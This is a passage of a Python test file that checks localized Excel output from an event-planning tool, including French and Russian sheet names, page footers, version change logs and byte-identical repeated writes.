    assert list(submissions[0])[6:8] == ["après la date limite (2020-10-31)", "plus de 5\u00a0000 mots"]
    assert [r["après la date limite (2020-10-31)"] for r in submissions] == ["oui", None, None]
    balance = records(book["Équilibre"], "séance")
    assert ("genre", "non précisé") in {(r["critère"], r["valeur"]) for r in balance}
    solver = book["Solveur"]
    assert [solver.cell(row=r, column=1).value for r in (1, 2, 3)] == [
        "version du plan",
        "produit le (UTC)",
        "statut",
    ]
    for ws in book.worksheets:
        assert ws.oddFooter is not None
        assert ws.oddFooter.center.text == "Page &P sur &N"


def test_agenda_in_russian_counts_changes_in_russian(tmp_path: Path, planned: tuple[Event, Plan]) -> None:
    ev, first = planned
    people = tuple(replace(p, withdrawn=True) if p.id == "P2" else p for p in ev.applicants)
    again = replace(ev, applicants=people, languages=("ru",))
    second = release.plan(again, previous=first, generated_at=GENERATED + dt.timedelta(days=1), time_limit=20)
    write_agenda(build_view(again, second), tmp_path / "agenda.xlsx")
    book = load_workbook(tmp_path / "agenda.xlsx")

    assert book.sheetnames[:3] == ["Программа", "Распределение ролей", "Охват целей"]
    changes = book["Изменения"]
    assert changes["A1"].value == "Версия 2: 1 изменение по сравнению с версией 1"
    (removed,) = records(changes, "изменение")
    assert (removed["изменение"], removed["заседание"], removed["участник"]) == ("удаление", "S1", "P2")
    assert changes.oddFooter is not None
    assert changes.oddFooter.center.text == "Страница &P из &N"


def test_translated_workbooks_are_the_same_bytes(tmp_path: Path, multilingual: Path, view: PlanView) -> None:
    french = replace(view, language="fr")
    write_agenda(french, tmp_path / "a.xlsx")
    write_agenda(french, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    write_run_of_show(in_language(view, "ru"), tmp_path / "c.xlsx")
    write_run_of_show(in_language(view, "ru"), tmp_path / "d.xlsx")
    assert (tmp_path / "c.xlsx").read_bytes() == (tmp_path / "d.xlsx").read_bytes()
